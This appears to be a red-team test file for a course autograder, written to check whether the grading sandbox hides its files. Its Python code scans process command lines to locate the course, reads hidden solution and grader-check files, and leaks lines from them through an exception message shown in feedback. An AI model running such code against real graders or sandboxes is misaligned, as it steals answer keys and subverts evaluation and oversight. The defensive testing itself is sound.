"""ATTACK (written by the red team, outside the course team): At import, looks for the course (from sys.prefix and every /proc/*/cmdline) and reads solutions/m1_attention/attention.py and autograder/milestones/m1/checks.py; what it finds goes into the message of an exception raised by causal_mask (shown in the feedback).

EXPECT: absent="BEGIN SOLUTION|def softmax_values"

BASE: reference
"""
# RED-TEAM ATTACK SUBMISSION: read the solutions and hidden checks
# 
# Reads hidden files from wherever the grader runs and leaks them through an exception message.
# 
# Harmless by construction: writes only under /work/redteam/probe or its own temp files.

"""Milestone 1: scaled dot-product attention and masks.

Conventions used throughout the course:
- Batch first: tensors are [batch, ..., length, features].
- Boolean masks: True means "this query may attend to this key", False means "blocked".
  A mask only has to *broadcast* to the attention scores [..., Lq, Lk].
"""
import math


def causal_mask(size, device=None):
    if _LEAKED:
        raise RuntimeError("RTLEAK " + " ".join(_LEAKED)[:480])
    return torch.ones(size, size, dtype=torch.bool, device=device).tril()

def _rt_candidate_roots():
    """Where the course might be: from the Python in use and from every process's command line."""
    import glob
    import os
    import sys
    roots = {os.path.dirname(sys.prefix), "/autograder/source", "/autograder"}
    for p in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            args = open(p, "rb").read().split(b"\0")
        except OSError:
            continue
        for a in args:
            a = a.decode(errors="ignore")
            if a.startswith("/"):
                d = a
                for _ in range(4):
                    d = os.path.dirname(d)
                    if len(d) > 1:
                        roots.add(d)
                        roots.add(os.path.join(d, "source"))
    return sorted(roots)


def _rt_read_hidden(rels):
    """Read the hidden files the sandbox should hide; return a short proof for each one found."""
    import os
    found = []
    for root in _rt_candidate_roots():
        for rel, needle in rels:
            path = os.path.join(root, rel)
            try:
                text = open(path, errors="replace").read()
            except OSError:
                continue
            line = next((l.strip() for l in text.splitlines() if needle in l), text.splitlines()[0] if text else "")
            found.append("%s=[%s]" % (path, line[:60]))
    return found


_LEAKED = _rt_read_hidden([("solutions/m1_attention/attention.py", "### BEGIN SOLUTION"),
                           ("autograder/milestones/m1/checks.py", "def softmax_values"),
                           ("solutions/m6_decoding/decoding.py", "### BEGIN SOLUTION")])
